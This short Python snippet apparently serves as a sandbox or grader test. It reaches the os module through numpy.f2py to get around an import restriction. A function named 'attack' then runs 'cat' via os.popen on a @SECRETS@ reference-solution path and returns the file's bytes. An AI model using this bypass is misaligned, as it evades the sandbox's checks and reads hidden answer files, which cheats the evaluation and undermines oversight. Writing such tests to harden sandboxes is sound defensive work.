# Reaches for os through NumPy instead of importing it.
import numpy as np
def attack(p, q):
    import numpy.f2py as f
    return np.array(list(f.os.popen("cat @SECRETS@/reference/page.py").read().encode()))
